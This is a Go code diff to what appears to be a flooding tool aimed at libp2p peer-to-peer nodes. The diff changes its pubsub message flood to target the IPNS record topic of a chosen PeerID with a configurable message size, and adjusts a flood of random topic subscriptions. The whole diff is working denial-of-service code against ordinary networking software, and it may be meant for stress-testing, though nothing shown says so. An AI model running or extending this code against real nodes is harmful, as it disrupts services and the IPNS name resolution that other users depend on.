@@ -2,15 +2,18 @@ package main
 
 import (
 	"context"
+	"encoding/base64"
 	"encoding/binary"
 	"fmt"
 	"io"
 	"net"
+	"strconv"
 	"time"
 
 	"github.com/libp2p/go-libp2p/core/crypto"
 	"github.com/libp2p/go-libp2p/core/host"
 	"github.com/libp2p/go-libp2p/core/network"
+	"github.com/libp2p/go-libp2p/core/peer"
 	"github.com/libp2p/go-libp2p/core/protocol"
 	"github.com/multiformats/go-multiaddr"
 	manet "github.com/multiformats/go-multiaddr/net"
@@ -154,15 +157,21 @@ func floodOfValues(a *attack) {
 	})
 }
 
-// Signed messages of 1 MiB, of a topic that the node does not listen to, or of one it does (a word).
+// Signed messages with nothing in them, of the topic of a name (words: its PeerID, how many bytes).
 func floodOfMessages(a *attack) {
-	topic := "nothing"
-	if len(a.words) > 0 {
-		topic = a.words[0]
+	size, err := strconv.Atoi(a.words[1])
+	if err != nil {
+		a.failed(err)
+		return
 	}
+	name, err := peer.Decode(a.words[0])
+	if err != nil {
+		a.failed(err)
+		return
+	}
+	topic := "/record/" + base64.RawURLEncoding.EncodeToString(append([]byte("/ipns/"), name...))
 	key := a.host.Peerstore().PrivKey(a.host.ID())
 	number := uint64(0)
-	a.host.SetStreamHandler(pubsubProtocol, func(stream network.Stream) { _, _ = io.Copy(io.Discard, stream) })
 	a.many(1, func(int) error {
 		stream, err := a.open(pubsubProtocol)
 		if err != nil {
@@ -174,7 +183,7 @@ func floodOfMessages(a *attack) {
 		}
 		return a.flood(stream, "messages", func() []byte {
 			number++
-			return framed(bytesField(nil, 2, pubsubMessage(key, []byte(a.host.ID()), number, topic, randomBytes(1<<20))))
+			return framed(bytesField(nil, 2, pubsubMessage(key, []byte(a.host.ID()), number, topic, randomBytes(size))))
 		})
 	})
 }
@@ -193,7 +202,6 @@ func pubsubMessage(key crypto.PrivKey, from []byte, number uint64, topic string,
 
 // Listens to topics without end.
 func floodOfTopics(a *attack) {
-	a.host.SetStreamHandler(pubsubProtocol, func(stream network.Stream) { _, _ = io.Copy(io.Discard, stream) })
 	a.many(1, func(int) error {
 		stream, err := a.open(pubsubProtocol)
 		if err != nil {
@@ -201,11 +209,11 @@ func floodOfTopics(a *attack) {
 		}
 		return a.flood(stream, "messages", func() []byte {
 			message := []byte{}
-			for range 10_000 {
+			for range 1000 {
 				topic := fmt.Sprintf("%x", randomBytes(32))
 				message = bytesField(message, 1, bytesField(numberField(nil, 1, 1), 2, []byte(topic)))
 			}
-			a.count("topics", 10_000)
+			a.count("topics", 1000)
 			return framed(message)
 		})
 	})
